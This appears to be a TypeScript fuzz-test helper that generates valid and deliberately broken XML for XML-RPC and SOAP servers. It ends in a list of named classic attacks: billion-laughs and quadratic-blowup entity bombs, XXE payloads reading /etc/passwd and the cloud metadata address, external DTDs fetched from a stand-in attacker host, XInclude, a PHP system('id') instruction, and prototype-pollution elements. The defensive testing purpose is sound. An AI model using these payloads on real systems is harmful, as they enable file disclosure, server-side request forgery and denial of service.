import fc from 'fast-check';
import { nastyString } from './fuzz-helpers';

// Generated XML for the XML-RPC and SOAP servers: trees of elements with attributes, text,
// CDATA, comments and processing instructions, well formed or broken on purpose, and the
// classic attacks written out by hand.

export type XmlPart =
  | { kind: 'el'; name: string; attrs: [string, string][]; children: XmlPart[] }
  | { kind: 'text'; text: string }
  | { kind: 'cdata'; text: string }
  | { kind: 'comment'; text: string }
  | { kind: 'pi'; target: string; text: string };

/** Escapes text for XML content and attribute values (characters XML cannot carry are kept: they are part of the attack). */
export const esc = (s: string) =>
  s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;');

export function serialize(p: XmlPart): string {
  switch (p.kind) {
    case 'text':
      return esc(p.text);
    case 'cdata':
      return `<![CDATA[${p.text.replace(/]]>/g, ']]]]><![CDATA[>')}]]>`;
    case 'comment':
      return `<!--${p.text.replace(/--/g, '- -').replace(/-$/, '- ')}-->`;
    case 'pi':
      return `<?${p.target} ${p.text.replace(/\?>/g, '? >')}?>`;
    case 'el': {
      const attrs = p.attrs.map(([k, v]) => ` ${k}="${esc(v)}"`).join('');
      return p.children.length
        ? `<${p.name}${attrs}>${p.children.map(serialize).join('')}</${p.name}>`
        : `<${p.name}${attrs}/>`;
    }
  }
}

/** Element names: the protocols' own, the catalogue's, prefixed ones, and dangerous ones. */
function elementName(extra: readonly string[] = []): fc.Arbitrary<string> {
  return fc.oneof(
    fc.constantFrom(
      'methodCall',
      'methodName',
      'params',
      'param',
      'value',
      'struct',
      'member',
      'name',
      'array',
      'data',
      'int',
      'i4',
      'i8',
      'double',
      'boolean',
      'string',
      'nil',
      'base64',
      'dateTime.iso8601',
      'SOAP-ENV:Envelope',
      'SOAP-ENV:Body',
      'SOAP-ENV:Header',
      'soap:Body',
      'Envelope',
      'Body',
      'item',
      'ns1:groups',
      '__proto__',
      'constructor',
      'prototype',
      'toString',
      'hasOwnProperty',
      'x:__proto__',
      ...extra,
    ),
    fc.stringMatching(/^[A-Za-z_][A-Za-z0-9_.-]{0,10}$/),
  );
}

const attrName = fc.oneof(
  fc.constantFrom(
    'xsi:nil',
    'nil',
    'xmlns',
    'xmlns:SOAP-ENV',
    'xmlns:xsi',
    'type',
    'xsi:type',
    '__proto__',
    'constructor',
    'id',
    'href',
  ),
  fc.stringMatching(/^[a-z][a-z0-9]{0,6}$/),
);

const attrValue = fc.oneof(
  fc.constantFrom('true', '1', 'false', 'http://schemas.xmlsoap.org/soap/envelope/', 'file:///etc/passwd', ''),
  nastyString,
);

/** A tree of XML parts, names drawn from the given list (and the usual suspects). */
export function xmlTree(names: readonly string[] = [], maxDepth = 6): fc.Arbitrary<XmlPart> {
  const name = elementName(names);
  const leaf: fc.Arbitrary<XmlPart> = fc.oneof(
    { weight: 4, arbitrary: nastyString.map((text) => ({ kind: 'text' as const, text })) },
    { weight: 1, arbitrary: nastyString.map((text) => ({ kind: 'cdata' as const, text })) },
    { weight: 1, arbitrary: fc.string({ maxLength: 20 }).map((text) => ({ kind: 'comment' as const, text })) },
    {
      weight: 1,
      arbitrary: fc
        .tuple(fc.constantFrom('php', 'xml-stylesheet', 'target', 'x'), fc.string({ maxLength: 20 }))
        .map(([target, text]) => ({ kind: 'pi' as const, target, text })),
    },
  );
  return fc.letrec<{ el: XmlPart; part: XmlPart }>((tie) => ({
    el: fc.record({
      kind: fc.constant('el' as const),
      name,
      attrs: fc.uniqueArray(fc.tuple(attrName, attrValue), { maxLength: 3, selector: ([k]) => k }),
      children: fc.array(tie('part'), { maxLength: 4, depthIdentifier: 'xml' }),
    }),
    part: fc.oneof({ maxDepth, depthIdentifier: 'xml', withCrossShrink: true }, leaf, tie('el')),
  })).el;
}

/** Damage done to a serialized document: truncation, stray markup, a swapped closing tag. */
export const breakage = fc.oneof(
  { weight: 3, arbitrary: fc.constant((s: string) => s) },
  fc.nat().map((n) => (s: string) => s.slice(0, n % (s.length + 1))),
  fc
    .tuple(
      fc.nat(),
      fc.constantFrom(
        '<',
        '>',
        '&',
        '&x;',
        '&#x110000;',
        '&#0;',
        '</a>',
        '<!--',
        ']]>',
        '"',
        '\u0000',
        '<?xml version="1.0"?>',
        '\uFEFF',
      ),
    )
    .map(([n, junk]) => (s: string) => {
      const at = n % (s.length + 1);
      return s.slice(0, at) + junk + s.slice(at);
    }),
  fc.constant((s: string) => s.replace(/<\/([^>]+)>$/, '</$1x>')),
  fc.constant((s: string) => `${s}<second/>`),
);

export const XML_DECL = '<?xml version="1.0" encoding="UTF-8"?>\n';

const lol = (n: number) => `<!ENTITY lol${n} "${`&lol${n - 1};`.repeat(10)}">`;

/** The classic attacks, each with a name, as documents for a given root element and body. */
export function classicAttacks(wrap: (inner: string) => string): [string, string][] {
  const laughs = `<!DOCTYPE lolz [<!ENTITY lol0 "lol">${Array.from({ length: 9 }, (_, i) => lol(i + 1)).join('')}]>`;
  return [
    ['billion laughs', `${XML_DECL}${laughs}${wrap('&lol9;')}`],
    ['billion laughs, lower-case doctype', `${XML_DECL}${laughs.replace('DOCTYPE', 'doctype')}${wrap('&lol9;')}`],
    ['quadratic blow-up', `${XML_DECL}<!DOCTYPE q [<!ENTITY a "${'x'.repeat(50_000)}">]>${wrap('&a;'.repeat(5_000))}`],
    ['XXE file', `${XML_DECL}<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>${wrap('&xxe;')}`],
    [
      'XXE http',
      `${XML_DECL}<!DOCTYPE foo [<!ENTITY xxe SYSTEM "http://169.254.169.254/latest/meta-data/">]>${wrap('&xxe;')}`,
    ],
    [
      'parameter entity',
      `${XML_DECL}<!DOCTYPE foo [<!ENTITY % p SYSTEM "http://attacker.invalid/evil.dtd"> %p;]>${wrap('x')}`,
    ],
    ['external DTD', `${XML_DECL}<!DOCTYPE foo SYSTEM "http://attacker.invalid/evil.dtd">${wrap('x')}`],
    ['entity without doctype', `${XML_DECL}${wrap('&xxe;&lol9;')}`],
    ['numeric references out of range', `${XML_DECL}${wrap('&#x110000;&#xD800;&#0;&#99999999999;')}`],
    [
      'XInclude',
      `${XML_DECL}${wrap('<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/>')}`,
    ],
    ['deep nesting 65', `${XML_DECL}${wrap(`${'<a>'.repeat(65)}x${'</a>'.repeat(65)}`)}`],
    ['deep nesting 20 000', `${XML_DECL}${wrap(`${'<a>'.repeat(20_000)}x${'</a>'.repeat(20_000)}`)}`],
    ['unclosed deep nesting 50 000', `${XML_DECL}${wrap('<a>'.repeat(50_000))}`],
    [
      '25 000 attributes',
      `${XML_DECL}${wrap(`<a ${Array.from({ length: 25_000 }, (_, i) => `a${i}="1"`).join(' ')}/>`)}`,
    ],
    ['a 1 MB attribute', `${XML_DECL}${wrap(`<a b="${'x'.repeat(1_000_000)}"/>`)}`],
    ['a 256 kB element name', `${XML_DECL}${wrap(`<${'a'.repeat(256_000)}/>`)}`],
    ['25 000 siblings', `${XML_DECL}${wrap('<a>1</a>'.repeat(25_000))}`],
    ['CDATA never closed', `${XML_DECL}${wrap('<![CDATA[ x')}`],
    ['comment never closed', `${XML_DECL}${wrap('<!-- x')}`],
    ['PI in the body', `${XML_DECL}${wrap('<?php system("id"); ?>')}`],
    ['BOM and two declarations', `\uFEFF${XML_DECL}${XML_DECL}${wrap('x')}`],
    ['NUL bytes', `${XML_DECL}${wrap('\u0000\u0000')}`],
    ['only a declaration', XML_DECL],
    ['empty', ''],
    ['not XML at all', '{"json": true}'],
    ['HTML', '<html><body><p>hi<br></body></html>'],
    ['two roots', `${XML_DECL}${wrap('x')}${wrap('y')}`],
    ['mismatched tags', `${XML_DECL}<a><b></a></b>`],
    ['duplicate attributes', `${XML_DECL}<a x="1" x="2"/>`],
    ['undeclared prefix', `${XML_DECL}<zz:a>${wrap('x')}</zz:a>`],
    [
      '__proto__ elements',
      `${XML_DECL}${wrap('<__proto__><polluted>1</polluted></__proto__><constructor><prototype><polluted>1</polluted></prototype></constructor>')}`,
    ],
  ];
}
